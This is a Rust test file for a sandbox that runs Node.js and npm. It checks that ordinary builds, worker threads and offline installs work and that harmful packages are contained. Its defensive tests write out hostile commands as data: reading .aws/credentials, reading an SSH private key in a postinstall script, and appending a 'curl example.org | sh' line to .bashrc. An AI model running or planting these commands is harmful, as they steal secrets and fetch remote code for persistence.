//! `node`: programs of Node.js and the scripts of a package.

use turnkey_expectations::expected;
use turnkey_tests::Run;

use super::harm::{Harmful, reaches_nobody};
use super::{passed, under};

expected!(
    not_on[ORDINARY_6_12],
    "Node alone would double this guest's disk, and takes an emulated CPU long to start: \
     on 6.12 programs"
);

const NODE: &str = "/usr/bin/node";

#[test]
fn scripts_of_npm_pass() {
    let package = r#"{"name": "answer", "version": "1.0.0", "scripts": {
        "build": "node build.js", "test": "npm run --silent build && node -p \"require('./out.json').n\""}}"#;
    let build = "require('fs').writeFileSync('out.json', JSON.stringify({n: 42}))";
    let run = under("node")
        .file("package.json", package)
        .file("build.js", build);
    let ran = run.run(&["npm", "test", "--silent"]);
    passed(&ran, "42\n");
    let changed: Vec<_> = ran
        .list("/files_changed")
        .iter()
        .map(|file| &file["path"])
        .collect();
    ran.expect(changed == ["out.json"], "neither a cache nor a log is left");
}

/// Also where nobody chose a profile for it: without a network that would be an attempt to get out.
#[test]
fn npm_looks_for_no_newer_npm() {
    let package = r#"{"name": "answer", "version": "1.0.0", "scripts": {"start": "echo 42"}}"#;
    let run = Run::new().file("package.json", package);
    let ran = run.run(&["npm", "start", "--silent"]);
    passed(&ran, "42\n");
    let asked = ran.list("/network_attempts").iter();
    let registry = asked.filter(|row| row["name"].to_string().contains("npmjs"));
    ran.expect(registry.count() == 0, "nobody is asked");
}

/// What a registry has is not there without a network: npm says so at once, and the report says how it comes.
#[test]
fn what_comes_from_a_registry_is_asked_for_with_its_host() {
    let package = r#"{"name": "a", "dependencies": {"left-pad": "1.3.0"}}"#;
    let run = under("node").file("package.json", package);
    let ran = run.run(&["npm", "install", "--silent"]);
    ran.expect(ran.code != 0, "it is not there");
    let flag = "--allow registry.npmjs.org:443\n";
    ran.expect(ran.stderr.contains(flag), "whom to allow");
}

#[test]
fn a_package_of_the_workspace_is_installed_offline() {
    let run = under("node")
        .file(
            "package.json",
            r#"{"name": "a", "dependencies": {"sum": "file:./sum"}}"#,
        )
        .file("main.js", "console.log(require('sum')(40, 2))");
    std::fs::create_dir(run.path().join("sum")).expect("a folder");
    let run = run
        .file(
            "sum/package.json",
            r#"{"name": "sum", "version": "1.0.0", "main": "i.js"}"#,
        )
        .file("sum/i.js", "module.exports = (a, b) => a + b");
    passed(&run.shell("npm install --silent && node main.js"), "42\n");
}

#[test]
fn workers_streams_and_children_pass() {
    let program = "const { Worker, isMainThread, parentPort } = require('worker_threads');
const fs = require('fs'), zlib = require('zlib'), { pipeline } = require('stream/promises');
if (!isMainThread) { parentPort.postMessage(require('crypto').createHash('sha256').update('x').digest('hex').slice(0, 8)); }
else (async () => {
  fs.writeFileSync('text', 'x'.repeat(1 << 20));
  await pipeline(fs.createReadStream('text'), zlib.createGzip(), fs.createWriteStream('text.gz'));
  const digest = await new Promise(done => new Worker(__filename).on('message', done));
  const listed = require('child_process').execSync('ls text.gz').toString().trim();
  await new Promise(done => setTimeout(done, 5));
  console.log(fs.statSync('text.gz').size < 5000, digest, listed);
})();";
    let ran = under("node")
        .file("main.js", program)
        .run(&[NODE, "main.js"]);
    passed(&ran, "true 2d711642 text.gz\n");
}

fn script(text: &'static str) -> Harmful<'static> {
    let command: &[&str] = match text {
        TOKEN => &[NODE, "-e", TOKEN],
        _ => &[NODE, "-e", STARTUP],
    };
    Harmful {
        profile: "node",
        command,
        files: Vec::new(),
    }
}

const TOKEN: &str = "console.log(require('fs').readFileSync('.aws/credentials', 'utf8'))";
const STARTUP: &str = "require('fs').appendFileSync('.bashrc', 'curl example.org | sh\\n')";

#[test]
fn a_package_that_takes_a_token_is_killed() {
    script(TOKEN).reads_no_secret("the token", "stored-credential");
}

#[test]
fn a_program_lists_the_interfaces_of_its_jail() {
    let program = "console.log(Object.keys(require('os').networkInterfaces()).join())";
    passed(&under("node").run(&[NODE, "-e", program]), "lo\n");
}

#[test]
fn a_package_that_stays_in_the_shell_is_killed() {
    script(STARTUP).changes_no_startup_file(".bashrc");
}

#[test]
fn a_script_of_npm_that_reads_a_key_is_killed() {
    let package = r#"{"name": "a", "scripts": {"postinstall": "cat .ssh/id_ed25519"}}"#;
    let harmful = Harmful {
        profile: "node",
        command: &["npm", "run", "--silent", "postinstall"],
        files: vec![("package.json", package.to_owned())],
    };
    harmful.reads_no_secret("the private key", "private-key");
}

#[test]
fn a_package_that_sends_data_away_reaches_nobody() {
    reaches_nobody("node", &|port| {
        let program = format!(
            "const s = require('net').connect({port}, '127.0.0.1', () => s.end('data', () => s.destroy())); s.on('error', () => {{}})"
        );
        [NODE, "-e", &program].map(str::to_owned).to_vec()
    });
}

#[test]
fn a_heap_is_sized_by_the_jail() {
    let run = under("node").option("--memory 1G");
    let program = "console.log(require('v8').getHeapStatistics().heap_size_limit >> 20)";
    let ran = run.run(&[NODE, "-e", program]);
    ran.expect_code(0);
    // The half, and what is young beside it.
    let size: u64 = ran.stdout.trim().parse().unwrap_or_default();
    ran.expect((512..700).contains(&size), &format!("{size} MiB"));
}
